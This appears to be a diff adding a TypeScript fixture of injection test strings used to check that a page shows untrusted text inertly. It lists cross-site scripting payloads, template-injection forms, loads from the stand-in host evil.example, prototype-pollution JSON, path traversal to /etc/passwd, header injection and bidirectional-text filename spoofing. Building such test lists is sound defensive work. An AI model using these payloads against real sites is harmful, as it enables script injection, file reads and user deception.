@@ -1,0 +1,140 @@
+// Texts that would do something if a page took them for more than text. Those that could run set
+// window.wasHit; those that could load ask evil.example.
+
+const kScript = "window.wasHit=1";
+const kHost = "//evil.example/x";
+
+const kTags = [
+  "img",
+  "svg",
+  "body",
+  "video",
+  "audio",
+  "iframe",
+  "object",
+  "embed",
+  "input",
+  "details",
+  "marquee",
+  "math",
+];
+const kHandlers = [
+  "onerror",
+  "onload",
+  "onfocus autofocus tabindex=1",
+  "ontoggle open",
+  "onmouseover",
+  "onanimationstart",
+];
+
+const kMarkup = [
+  `<script>${kScript}</script>`,
+  `<ScRiPt>${kScript}</sCrIpT>`,
+  `</textarea><script>${kScript}</script>`,
+  `</title><script>${kScript}</script>`,
+  `</style><script>${kScript}</script>`,
+  `--><script>${kScript}</script>`,
+  `]]><script>${kScript}</script>`,
+  `"><script>${kScript}</script>`,
+  `'><script>${kScript}</script>`,
+  `<script src=${kHost}.js></script>`,
+  `<script type=module>import("${kHost}.js")</script>`,
+  `<link rel=stylesheet href=${kHost}.css>`,
+  `<link rel=prefetch href=${kHost}>`,
+  `<base href=${kHost}>`,
+  `<meta http-equiv=refresh content="0;url=${kHost}">`,
+  `<form action=${kHost}><button>x</button></form>`,
+  `<a href="javascript:${kScript}">x</a>`,
+  `<a href="data:text/html,<script>${kScript}</script>">x</a>`,
+  `<iframe srcdoc="<script>parent.wasHit=1</script>"></iframe>`,
+  `<style>*{background:url(${kHost})}</style>`,
+  `<div style="background:url(${kHost})">x</div>`,
+  `<img src=${kHost}>`,
+  `<svg><image href=${kHost} /></svg>`,
+  `<svg><use href=${kHost}#x /></svg>`,
+  `<svg><script>${kScript}</script></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${kScript}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${kScript}>">`,
+  `<template><img src=x onerror=${kScript}></template>`,
+  `<dialog open>x</dialog>`,
+  `<portal src=${kHost}></portal>`,
+  `&lt;script&gt;${kScript}&lt;/script&gt;`,
+  `&#60;script&#62;${kScript}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${kScript}\\u003c/script\\u003e`,
+  `%3Cscript%3E${kScript}%3C/script%3E`,
+  `{{constructor.constructor('${kScript}')()}}`,
+  `\${${kScript}}`,
+  `#{${kScript}}`,
+  `<%= ${kScript} %>`,
+  `javascript:${kScript}`,
+  `JaVaScRiPt:${kScript}//`,
+  `data:text/html,<script>${kScript}</script>`,
+  `vbscript:msgbox(1)`,
+  `';${kScript};//`,
+  `";${kScript};//`,
+  `\`;${kScript};//`,
+  `);${kScript};//`,
+  `url(${kHost})`,
+  `@import "${kHost}";`,
+  `expression(${kScript})`,
+  `[x](javascript:${kScript})`,
+  `![x](http:${kHost})`,
+  `http:${kHost}`,
+  `file:///etc/passwd`,
+  `__proto__`,
+  `constructor`,
+  `toString`,
+  `hasOwnProperty`,
+  `__defineGetter__`,
+  `null`,
+  `undefined`,
+  `NaN`,
+  `{"__proto__":{"wasHit":1}}`,
+  `$&$1$'`,
+  `%s%n%d`,
+  `../../../../etc/passwd`,
+  `..\\..\\x`,
+  `C:\\x`,
+  `/#/run/1/settings`,
+  `#/run/99999999`,
+  `'><"`,
+];
+
+const kUnseen = [
+  ..."\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2028\u2029\ufeff\u00ad\u2060\u180e\ufff9",
+  ..."\u0001\u0002\u0007\u0008\u000b\u000c\u000e\u001b\u001f\u007f\u0085\u009b",
+].map((character) => `a${character}b`);
+
+const kTricks = [
+  "\u202egpj.exe",
+  "admin\u202e \u2066// \u2069\u2066x",
+  "\u2067right\u2066left\u2069",
+  "a\u202eb\u202ec\u202ed".repeat(3),
+  "\u001b[31mred\u001b[0m",
+  "\u001b]0;title\u0007",
+  "\r\nSet-Cookie: a=b",
+  "Z\u0351\u036b\u0343\u036a".repeat(40),
+  "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}",
+  "\u0635\u0651\u0644\u0649 \u05e9\u05dc\u05d5\u05dd abc",
+  "\ufdfd".repeat(20),
+  "W".repeat(2000),
+  `${"a ".repeat(500)}b`,
+  "\t\t\tindented",
+  "\u3000\u3000wide",
+  "\ud7ff\ue000",
+  "\u{10ffff}",
+  "\u{e0041}\u{e0042}",
+];
+
+/** Every one a text of its own. */
+export const kPayloads: readonly string[] = [
+  ...new Set([
+    ...kMarkup,
+    ...kTags.flatMap((tag) => kHandlers.map((handler) => `<${tag} src=x ${handler}=${kScript}>`)),
+    ...kUnseen,
+    ...kTricks,
+  ]),
+];
+
+/** What must not stand in the page as it is: it can't be seen, or turns round the text about it. */
+export const kMustBeWritten = /(?![\n\t])\p{Cc}|[\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u;
